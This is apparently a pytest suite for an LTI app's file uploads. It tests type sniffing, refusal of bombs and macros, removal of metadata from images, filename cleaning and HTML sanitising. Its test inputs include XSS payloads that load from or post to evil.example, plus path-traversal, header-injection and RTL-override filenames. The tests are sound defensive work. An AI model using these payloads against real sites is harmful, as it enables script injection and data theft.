"""What files are by their content, what is kept of them, and the names they get."""

import io
import struct
import zipfile
from contextlib import suppress

import pytest
from hypothesis import given
from hypothesis import strategies as st
from pypdf import PdfWriter
from pypdf.constants import PageLabelStyle

from lti_app.core.documents import PdfPages, clean_document, decoded, extract_pages
from lti_app.core.errors import Refused
from lti_app.core.images import MOST_PARTS, clean_picture
from lti_app.core.pdf_pages import MOST_OF_A_LABEL
from lti_app.library.files import rules
from lti_app.library.files.errors import FileLocked, FileReadingBusy
from lti_app.library.files.queries import refuse_locked
from lti_app.library.files.rules import (
    Limits,
    MediaType,
    Purpose,
    display_name,
    examine,
    numbered,
    part_of_address,
    sniff,
)
from tests.core.bounded import every_place_taken
from tests.factories import files

GOOD = [
    (files.pdf(["Hello"]), MediaType.PDF),
    (files.png(), MediaType.PNG),
    (files.jpeg(), MediaType.JPEG),
    (files.gif(), MediaType.GIF),
    (files.webp(), MediaType.WEBP),
    ("Größe 👍🏽\r\n\tzwei".encode(), MediaType.TEXT),
    (b"< 5 people, % and {braces}", MediaType.TEXT),
    (files.office(*files.DOCX), MediaType.DOCX),
    (files.office(*files.ODT), MediaType.ODT),
    (b"\xef\xbb\xbf  <!-- x -->\n<!DOCTYPE html><p>x", MediaType.HTML),
    (b'<?xml version="1.0"?><html><p>x</html>', MediaType.HTML),
]
DOCUMENTS_IN_TEXT = [
    rb"{\rtf1\ansi{\info{\author Ana Brandt}}Leaders}",
    b'\xef\xbb\xbf<?xml version="1.0"?>\n<svg><metadata><dc:creator>Ana Brandt</dc:creator></metadata></svg>',
    b'\n <svg xmlns="http://www.w3.org/2000/svg"><title>Ana Brandt</title></svg>',
    b"<office:document><meta:initial-creator>Ana Brandt</meta:initial-creator></office:document>",
    b"<!-- by Ana Brandt --><note>x</note>",
    b"%!PS-Adobe-3.0\n%%For: Ana Brandt\n",
    b"From: <Saved by Blink>\nSubject: x\nMIME-Version: 1.0\n\nx",
    b"BEGIN:VCARD\nFN:Ana Brandt\nEND:VCARD\n",
]
"""What programs write in letters, with properties that nobody sees who opens it."""
OTHERS = [
    b"II*\0" + bytes(60),
    b"MM\0*" + bytes(60),
    b"\0\0\0\x18ftypheic\0\0\0\0mif1heic",
    b"\0\0\0\x1cftypavif" + bytes(40),
    b"\0\0\0\x18ftypmp42\0\0\0\0isommp42",
    b"BM" + bytes(60),
    b"\xff\x0a" + bytes(60),
    bytes.fromhex("d0cf11e0a1b11ae1") + bytes(60),
]
"""TIFF, HEIC, AVIF, MP4, BMP, JPEG XL, Word before 2007: each has room for names and places."""
BAD = [
    *DOCUMENTS_IN_TEXT,
    *OTHERS,
    b"MZ\x90\x00" + bytes(60),
    b"\x7fELF" + bytes(60),
    b"text with a \x00 in it",
    b"\xff\xfeU\x00T\x00F\x00",
    "Größe".encode("latin-1"),
    files.office("a.txt"),
    files.office(*files.DOCX, "word/vbaProject.bin"),
    files.office(*files.ODT, "Basic/Standard/Module1.xml"),
]


@pytest.mark.parametrize(("data", "media_type"), GOOD)
def test_a_file_is_what_is_in_it(data, media_type):
    assert sniff(io.BytesIO(data)) is media_type


@pytest.mark.parametrize("data", BAD)
def test_other_kinds_are_not_known(data):
    assert sniff(io.BytesIO(data)) is None


def refusal(data, purpose=Purpose.ATTACHMENT, limits=None):
    with pytest.raises(Refused) as caught:
        examine(io.BytesIO(data), purpose, limits or Limits())
    return caught.value.code


def test_each_purpose_takes_its_kinds():
    taken = {
        purpose: [
            kind for data, kind in GOOD if kind in rules.TAKEN[purpose] and examine(io.BytesIO(data), purpose, Limits())
        ]
        for purpose in Purpose
    }
    assert set(taken[Purpose.READING]) == {MediaType.PDF, MediaType.HTML}
    assert set(taken[Purpose.ATTACHMENT]) == set(MediaType) - {MediaType.HTML}
    assert refusal(files.png(), Purpose.READING) == "file_type"
    assert refusal(b"<html><script>x()</script>") == "file_type"


def test_size_counts_before_anything_is_read():
    assert refusal(b"") == "file_empty"
    assert refusal(b"x" * 11, limits=Limits(attachment=10)) == "file_too_large"
    assert refusal(b"<html>" + b"x" * rules.HTML_LIMIT, Purpose.READING) == "file_too_large"


def test_html_that_would_take_too_long_to_read_is_refused():
    for html in ("<div>" * 900_000, "<p " + " ".join(f"a{n}" for n in range(300)), "&amp;" * 900_000):
        assert refusal(f"<html>{html}".encode(), Purpose.READING) == "file_too_complex"


def test_bombs_are_seen_without_being_unpacked():
    assert refusal(files.office(*files.DOCX, content=bytes(61_000_000), copies=3)) == "archive_too_large"
    assert refusal(files.office(*files.DOCX, copies=rules.MOST_MEMBERS)) == "archive_too_large"
    assert refusal(files.png(30_000, 30_000)) == "picture_too_large"
    assert refusal(b"PK\x03\x04 not really") == "file_broken"


def test_members_of_an_archive_are_counted_before_the_library_makes_an_object_of_each(monkeypatch):
    opened: list[object] = []
    monkeypatch.setattr(zipfile.ZipFile, "__init__", lambda *about, **_more: opened.append(about))
    assert refusal(b"PK\x03\x04" + b"\0" * 26 + (b"PK\x01\x02" + b"\0" * 43) * 200_000) == "archive_too_large"
    assert not opened


MANY = MOST_PARTS + 1
CROWDED = {
    "chunks that are kept": lambda: files.png(2, 2, *[(b"IDAT", b"")] * MANY),
    "notes": lambda: files.png(2, 2, *[(b"tEXt", b"")] * MANY),
    "loops": lambda: files.gif(*[b"\x21\xff\x0bNETSCAPE2.0\x03\x01\x00\x00\x00"] * MANY),
    "frames": lambda: files.webp(*[(b"ANMF", bytes(16))] * MANY),
    "chunks within a frame": lambda: files.webp((b"ANMF", bytes(16) + riff(b"ALPH", b"") * MANY)),
    "segments": lambda: files.jpeg(*[(0xE0, b"JFIF\0")] * MANY),
}


@pytest.mark.parametrize("make", CROWDED.values(), ids=CROWDED)
def test_pictures_of_more_parts_than_any_picture_has_are_refused(make):
    """Whose parts took a second of the interpreter and hundreds of megabytes."""
    assert refusal(make()) == "file_broken"


@pytest.mark.parametrize("make", [files.png, files.jpeg, files.gif, files.webp])
def test_a_picture_cut_short_is_broken(make):
    whole = make()
    for length in range(12, len(whole) - 1):
        assert refusal(whole[:length]) in ("file_broken", "file_type"), length


@given(st.sampled_from([files.png, files.jpeg, files.gif, files.webp]), st.integers(8, 60), st.binary(max_size=40))
def test_a_mutilated_picture_is_cleaned_or_refused(make, at, instead):
    whole = make()
    with suppress(ValueError):
        clean_picture(whole[:at] + instead + whole[at + len(instead) :])


def test_pictures_do_not_tell_where_they_were_made():
    place = files.EXIF_WITH_PLACE
    xmp = b"http://ns.adobe.com/xap/1.0/\0 GPS here"
    jpeg = files.jpeg((0xE0, b"JFIF\0"), (0xE1, place), (0xE1, xmp), (0xFE, b"GPS"), (0xED, b"GPS"), after=b"GPS")
    png = files.png(2, 2, (b"tEXt", b"place\0GPS"), (b"eXIf", place[6:]), (b"gAMA", b"\0\0\xb1\x8f"))
    webp = files.webp((b"EXIF", place), (b"XMP ", b"GPS"), flags=0b1100)
    gif = files.gif(b"\x21\xfe\x03GPS\x00", b"\x21\xff\x0bXMP DataXMP\x03GPS\x00")
    for data in (jpeg, png, webp, gif):
        cleaned = clean_picture(data)
        assert b"GPS" in data
        assert b"GPS" not in cleaned.content
        assert clean_picture(cleaned.content) == cleaned
    turn = files.EXIF_WITH_PLACE.removeprefix(b"Exif\0\0").partition(b"GPS")[0]
    assert clean_picture(png).content == files.png(2, 2, (b"eXIf", turn), (b"gAMA", b"\0\0\xb1\x8f"))
    assert clean_picture(webp).content == files.webp((b"EXIF", turn), flags=0b1000)
    assert clean_picture(gif).content == files.gif()


def test_a_photograph_stays_the_way_up_that_it_was():
    exif = files.EXIF_WITH_PLACE
    photographs = {
        "jpeg": files.jpeg((0xE1, exif)),
        "png": files.png(2, 2, (b"eXIf", exif[6:])),
        "webp": files.webp((b"EXIF", exif[6:]), flags=0b1000),
        "webp with the mark that JPEG has": files.webp((b"EXIF", exif), flags=0b1000),
    }
    for name, photograph in photographs.items():
        cleaned = clean_picture(photograph).content
        assert cleaned.count(b"\x01\x12\x00\x03\x00\x00\x00\x01\x00\x06") == 1, name
        assert b"GPS" not in cleaned, name


def test_a_picture_without_notes_is_not_touched():
    for make in (files.jpeg, files.png, files.gif, files.webp):
        assert clean_picture(make()).content == make()


def test_small_earlier_versions_in_a_photograph_go():
    earlier = ((0xE0, b"JFXX\0\x10 thumbnail"), (0xE2, b"MPF\0 another"), (0xE2, b"FPXR\0 another"))
    profile = (0xE2, b"ICC_PROFILE\0\x01\x01 colors")
    assert clean_picture(files.jpeg(*earlier, profile)).content == files.jpeg(profile)


def riff(name, body):
    return name + struct.pack("<I", len(body)) + body + b"\0" * (len(body) % 2)


def test_what_hides_behind_the_parts_that_are_kept_goes():
    """A thumbnail after the JFIF data, words after those of Adobe and of a loop, notes within a frame, odd segments."""
    jfif, adobe = b"JFIF\0\x01\x02\x00\x00\x01\x00\x01", b"Adobe\0\x64\0\0\0\0\1"
    odd = [(marker, b"Ana Perez") for marker in (0x02, 0xBF, *range(0xF0, 0xFF))]
    named = files.jpeg((0xE0, jfif + b"\1\1Ana"), (0xEE, adobe + b" Ana Perez"), *odd)
    assert clean_picture(named).content == files.jpeg((0xE0, jfif + b"\0\0"), (0xEE, adobe))
    loop = b"\x21\xff\x0bNETSCAPE2.0\x03\x01\x00\x00"
    words = b"\x21\x01\x0c" + bytes(12) + b"\x03Ana\x00"
    assert clean_picture(files.gif(loop + b"\x09Ana Perez\x00", words)).content == files.gif(loop + b"\x00")
    head, frame = bytes(16), riff(b"VP8L", b"\x2f\x09\xc0\x04\x00\x00\x00")
    notes = riff(b"EXIF", b"Ana Perez") + riff(b"NOTE", b"Ana")
    assert clean_picture(files.webp((b"ANMF", head + frame + notes))).content == files.webp((b"ANMF", head + frame))
    chunks = [(name, b"Ana Perez") for name in (b"tEXt", b"zTXt", b"iTXt", b"tIME", b"sPLT", b"anAn", b"eXIf")]
    assert clean_picture(files.png(2, 2, *chunks)).content == files.png()


def test_an_animation_goes_on_running():
    loop = b"\x21\xff\x0bNETSCAPE2.0\x03\x01\x00\x00\x00"
    assert clean_picture(files.gif(loop)).content == files.gif(loop)


@pytest.mark.parametrize(
    ("sent", "kept"),
    [
        ("Kotter 1990.pdf", "Kotter 1990.pdf"),
        ("../../etc/passwd", "passwd.pdf"),
        (r"C:\Users\me\Käse & Brot.PDF", "Käse & Brot.pdf"),
        ("invoice.pdf.exe", "invoice.pdf.pdf"),
        ("Kotter vs. Zaleznik", "Kotter vs. Zaleznik.pdf"),
        ("Kotter vs. Zaleznik.PDF", "Kotter vs. Zaleznik.pdf"),
        ("notes.v2.final.pdf", "notes.v2.final.pdf"),
        ("notes.v2", "notes.v2.pdf"),
        ("a\r\nSet-Cookie: x=1.pdf", "a Set-Cookie_ x=1.pdf"),
        ("\u202egpj.exe", "gpj.pdf"),
        ("", "file.pdf"),
        ("...", "file.pdf"),
        ("<img src=x onerror=alert(1)>.pdf", "img src=x onerror=alert(1).pdf"),
        ("x" * 500, "x" * 120 + ".pdf"),
        ("👩🏽‍🏫 notes.pdf", "👩🏽‍🏫 notes.pdf"),
        ("👩🏽‍🏫" * 100 + ".pdf", "👩🏽‍🏫" * 30 + ".pdf"),
        ("\U0001fadf.pdf", "\U0001fadf.pdf"),
        ("می‌خواهم.pdf", "می‌خواهم.pdf"),
        ("🏴󠁧󠁢󠁥󠁮󠁧󠁿.pdf", "🏴󠁧󠁢󠁥󠁮󠁧󠁿.pdf"),
        ("\u3164.pdf", "file.pdf"),
        ("\u2800 \u200b.pdf", "file.pdf"),
        ("notes\nof mine.pdf", "notes of mine.pdf"),
    ],
)
def test_names_are_only_names(sent, kept):
    assert display_name(sent, MediaType.PDF) == kept


@given(st.text(max_size=300))
def test_every_name_can_stand_in_an_address(name):
    shown = display_name(name, MediaType.TEXT)
    assert shown.endswith(".txt")
    assert not set(shown) & set('/\\"<>\r\n\0')
    assert part_of_address("0123456789abcdef", shown) == "0123456789ab-file.txt"


HOSTILE = [
    "<script>GPS()</script>",
    '<img src=x onerror="GPS()">',
    '<a href="javascript:GPS()">x</a>',
    '<iframe src="https://evil.example/GPS"></iframe>',
    '<form action="https://evil.example/GPS"><input name=GPS></form>',
    "<style>@import 'https://evil.example/GPS'</style>",
    '<svg onload="GPS()"><script>GPS()</script></svg>',
    '<p style="background:url(//evil.example/GPS)">x</p>',
    '<meta http-equiv="refresh" content="0;url=//evil.example/GPS">',
    '<base href="//evil.example/GPS"><p>x</p>',
    '<p id="GPS" class="GPS" onclick="GPS()">x</p>',
    '<math><mtext><table><mglyph><style><img src=x onerror="GPS()">',
]


@pytest.mark.parametrize("html", HOSTILE)
def test_nothing_in_a_document_runs_loads_or_posts(html):
    assert "GPS" not in clean_document(f"<!doctype html><html><body>{html}<p>Text</p></body></html>".encode())


def test_a_document_keeps_its_structure():
    html = "<html><head><title>T</title></head><body><h1>One</h1><p>Two <em>three</em></p><ul><li>four</li></ul></body>"
    assert clean_document(html.encode()) == "<h1>One</h1><p>Two <em>three</em></p><ul><li>four</li></ul>"


def test_paragraphs_are_numbered_and_headings_stand_below_the_pages_own():
    assert numbered("<h1>One</h1><p>Two</p><h6>x</h6><p>Three</p>") == (
        '<h2>One</h2><p id="para-1" data-paragraph="1">Two</p><h6>x</h6><p id="para-2" data-paragraph="2">Three</p>'
    )


@pytest.mark.parametrize(
    "data",
    [
        "Größe".encode(),
        "\ufeffGröße".encode(),
        "Größe".encode("utf-16"),
        '<meta charset="iso-8859-15">Größe'.encode("iso-8859-15"),
        "Größe".encode("cp1252"),
        '<meta charset="no-such">Größe'.encode("cp1252"),
    ],
)
def test_documents_are_read_in_the_encoding_they_are_in(data):
    assert decoded(data).endswith("Größe")


def test_the_words_of_each_page_of_a_pdf():
    pages = extract_pages(io.BytesIO(files.pdf(["Leaders set a direction."], [], ["Managers plan."])))
    assert [page.strip() for page in pages.texts] == ["Leaders set a direction.", "", "Managers plan."]
    assert (pages.labels, pages.is_locked) == ((), False)


def protected(*, user: str = "", labels: bool = False) -> bytes:
    """A PDF of two pages whose owner restricts copying, and which others open with the password `user`."""
    writer = PdfWriter(io.BytesIO(files.pdf(["One."], ["Two."])))
    if labels:
        writer.set_page_label(0, 0, style=PageLabelStyle.LOWERCASE_ROMAN)
        writer.set_page_label(1, 1, style=PageLabelStyle.DECIMAL, prefix="S-", start=1)
    writer.encrypt(user_password=user, owner_password="the owner's", algorithm="AES-256")
    made = io.BytesIO()
    writer.write(made)
    return made.getvalue()


def test_a_pdf_with_an_owner_password_opens_for_everybody():
    pages = extract_pages(io.BytesIO(protected(labels=True)))
    assert [page.strip() for page in pages.texts] == ["One.", "Two."]
    assert (pages.labels, pages.is_locked) == (("i", "S-1"), False)


def test_labels_of_a_pdf_are_no_longer_than_anybody_would_read():
    """Each page repeats the prefix, so that a small file could fill the memory of whoever reads the result."""
    writer = PdfWriter(io.BytesIO(files.pdf(*[["x"]] * 50)))
    writer.set_page_label(0, 49, style=PageLabelStyle.DECIMAL, prefix="S" * 100_000)
    made = io.BytesIO()
    writer.write(made)
    labels = extract_pages(io.BytesIO(made.getvalue())).labels
    assert len(labels) == 50
    assert max(map(len, labels)) <= MOST_OF_A_LABEL


def test_a_pdf_with_a_password_for_readers_is_refused_with_the_reason():
    data = protected(user="secret")
    assert extract_pages(io.BytesIO(data)) == PdfPages(is_locked=True)
    with pytest.raises(FileLocked):
        refuse_locked(io.BytesIO(data))


def test_no_more_are_read_at_once_than_leave_threads_for_pages():
    data = protected()
    with every_place_taken():
        with pytest.raises(FileReadingBusy):
            refuse_locked(io.BytesIO(data))
        refuse_locked(io.BytesIO(files.pdf(["Nothing to ask."])))
    refuse_locked(io.BytesIO(data))


@pytest.mark.parametrize("data", [files.pdf(["x"]), protected(), b"", b"words about /Encrypt"])
def test_other_files_are_not_refused_and_can_be_read_again(data):
    stream = io.BytesIO(data)
    refuse_locked(stream)
    assert stream.read() == data


@pytest.mark.parametrize(
    "data",
    [b"", b"%PDF-1.7 and nothing", files.pdf(["x"])[:200], files.pdf(["x"], encrypted=True), b"\x00" * 1000],
)
def test_a_pdf_that_cannot_be_read_has_no_words(data):
    assert extract_pages(io.BytesIO(data)).texts == ()


def test_reading_a_pdf_ends_in_time():
    assert extract_pages(io.BytesIO(files.pdf(["x"])), seconds=0.001) == PdfPages()


def test_the_archives_of_these_tests_are_archives():
    with zipfile.ZipFile(io.BytesIO(files.office(*files.DOCX))) as archive:
        assert archive.namelist() == list(files.DOCX)
